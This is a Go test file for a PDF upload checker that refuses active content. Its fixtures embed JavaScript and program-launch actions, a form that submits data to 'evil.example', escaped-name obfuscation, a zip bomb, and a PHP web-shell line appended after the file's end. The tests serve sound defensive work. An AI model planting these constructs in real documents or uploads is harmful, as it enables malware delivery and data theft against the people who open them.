package content

import (
	"bytes"
	"compress/zlib"
	"errors"
	"fmt"
	"strings"
	"testing"
)

// pdfWith is a small PDF whose catalogue holds extra, with body objects
// before the trailer.
func pdfWith(extra string, body ...string) []byte {
	return []byte("%PDF-1.7\n%\xe2\xe3\xcf\xd3\n1 0 obj\n<< /Type /Catalog /Pages 2 0 R " + extra + " >>\nendobj\n" +
		"2 0 obj\n<< /Type /Pages /Kids [] /Count 0 >>\nendobj\n" + strings.Join(body, "\n") +
		"\ntrailer\n<< /Root 1 0 R >>\n%%EOF\n")
}

func deflate(s string) string {
	var b bytes.Buffer
	w := zlib.NewWriter(&b)
	_, _ = w.Write([]byte(s))
	_ = w.Close()
	return b.String()
}

func objectStream(content string, filter string) string {
	data := deflate(content)
	if filter != "/FlateDecode" {
		data = content
	}
	return fmt.Sprintf("5 0 obj\n<< /Type /ObjStm /N 1 /First 4 /Length %d /Filter %s >>\nstream\n%s\nendstream\nendobj", len(data), filter, data)
}

func TestCheckPDF(t *testing.T) {
	page := "3 0 obj\n<< /Length 44 >>\nstream\nBT /F1 12 Tf (Hallo /JS /JavaScript) Tj ET\nendstream\nendobj"
	image := "4 0 obj\n<< /Subtype /Image /Length 9 /Filter /DCTDecode >>\nstream\n\xff\xd8/JS /Launch\nendstream\nendobj"
	for _, tt := range []struct {
		name string
		pdf  []byte
		want error
	}{
		{"a plain PDF", pdfWith(""), nil},
		{"an opening view (OpenAction with a destination)", pdfWith("/OpenAction [3 0 R /XYZ null null 0]"), nil},
		{"names of scripts inside strings and a page's content", pdfWith("/Info (about /JS)", page), nil},
		{"binary picture data", pdfWith("", image), nil},
		{"a link (URI action)", pdfWith("/AA << /O << /S /URI /URI (https://paddock.example) >> >>"), nil},
		{"CRLF line ends and trailing white space", bytes.ReplaceAll(append(pdfWith(""), " \r\n\x00"...), []byte("\n"), []byte("\r\n")), nil},
		{"a clean object stream", pdfWith("", objectStream("6 0 << /Type /Font /Subtype /Type1 /BaseFont /Helvetica >>", "/FlateDecode")), nil},
		{"JavaScript on opening", pdfWith("/OpenAction << /S /JavaScript /JS (app.alert\\(1\\)) >>"), errPDFActive},
		{"a name spelled with escapes", pdfWith("/OpenAction << /S /J#61vaScript /J#53 (x) >>"), errPDFActive},
		{"JavaScript in a compressed object stream", pdfWith("", objectStream("6 0 << /S /JavaScript /JS (app.alert\\(1\\)) >>", "/FlateDecode")), errPDFActive},
		{"escaped names in a compressed object stream", pdfWith("", objectStream("6 0 << /S /Launch /F (calc.exe) >>", "/FlateDecode")), errPDFActive},
		{"launching a program", pdfWith("/OpenAction << /S /Launch /F (cmd.exe) >>"), errPDFActive},
		{"an embedded file", pdfWith("/Names << /EmbeddedFiles << /Names [(a.exe) 7 0 R] >> >>"), errPDFActive},
		{"an XFA form", pdfWith("/AcroForm << /XFA 8 0 R >>"), errPDFActive},
		{"a form that sends data", pdfWith("/AA << /WC << /S /SubmitForm /F (https://evil.example) >> >>"), errPDFActive},
		{"HTML after the end", append(pdfWith(""), "<html><script>alert(1)</script></html>"...), errPDFTrailing},
		{"PHP after the end", append(pdfWith(""), "<?php system($_GET['c']); ?>"...), errPDFTrailing},
		{"no end", []byte("%PDF-1.7\n1 0 obj\n<< >>\nendobj\n"), errPDFBroken},
		{"encrypted", bytes.Replace(pdfWith(""), []byte("<< /Root 1 0 R >>"), []byte("<< /Root 1 0 R /Encrypt 9 0 R >>"), 1), errPDFEncrypted},
		{"an object stream that does not inflate", pdfWith("", "5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length 5 >>\nstream\nxxxxx\nendstream\nendobj"), errPDFBroken},
		{"an object stream in a filter the check cannot read", pdfWith("", objectStream("6 0 << /S /JavaScript >>", "/LZWDecode")), errPDFBroken},
		{"an object stream without its end", pdfWith("", "5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode >>\nstream\n"+deflate("<< /JS (x) >>")), errPDFBroken},
	} {
		if got := checkPDF(tt.pdf); !errors.Is(got, tt.want) {
			t.Errorf("%s: %v; want %v", tt.name, got, tt.want)
		}
	}
}

// A compressed object stream that inflates beyond the budget is refused
// without inflating all of it.
func TestCheckPDFRefusesZipBombs(t *testing.T) {
	var b bytes.Buffer
	w, _ := zlib.NewWriterLevel(&b, zlib.BestCompression)
	zeros := make([]byte, 1<<20)
	for range maxPDFInflated>>20 + 1 {
		_, _ = w.Write(zeros)
	}
	_ = w.Close()
	bomb := pdfWith("", fmt.Sprintf("5 0 obj\n<< /Type /ObjStm /Filter /FlateDecode /Length %d >>\nstream\n%s\nendstream\nendobj", b.Len(), b.String()))
	if err := checkPDF(bomb); !errors.Is(err, errPDFBroken) {
		t.Errorf("zip bomb: %v", err)
	}
}

// FuzzCheckPDF feeds the checker arbitrary bytes after a PDF header: it
// answers, never panics, and never takes a PDF with a script name in its
// catalogue.
func FuzzCheckPDF(f *testing.F) {
	f.Add([]byte(pdfWith("")))
	f.Add([]byte(pdfWith("/OpenAction << /S /J#61vaScript >>")))
	f.Add([]byte(pdfWith("", objectStream("6 0 << /JS (x) >>", "/FlateDecode"))))
	f.Add([]byte("%PDF-1.4\n(unbalanced ( string\n<< /A <</B>> >> stream\n"))
	f.Add([]byte("%PDF-\n/#\n/#4\n/#zz%%EOF"))
	f.Fuzz(func(t *testing.T, data []byte) {
		_ = checkPDF(data)
		if err := checkPDF(pdfWith("/OpenAction << /S /JavaScript /JS (" + strings.NewReplacer("(", "", ")", "", "\\", "").Replace(string(data)) + ") >>")); err == nil {
			t.Fatal("a script was taken")
		}
	})
}
